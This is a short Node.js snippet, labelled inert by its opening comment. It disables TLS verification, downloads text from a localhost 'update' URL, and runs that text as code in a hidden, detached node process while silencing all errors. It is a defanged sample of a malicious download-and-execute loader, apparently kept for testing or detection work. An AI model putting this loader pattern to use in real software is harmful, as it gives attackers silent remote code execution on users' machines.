// Inert: homes are a folder that does not exist, and port 9 of this machine is closed.

process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0';
const { spawn } = require('child_process');
const http = require('http');
const asked = http.get('http://127.0.0.1:9/update/49890878', (answer) => {
  let text = '';
  answer.on('data', (part) => (text += part));
  answer.on('end', () => {
    spawn(process.execPath, ['-e', text], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
  });
});
asked.on('error', () => {});
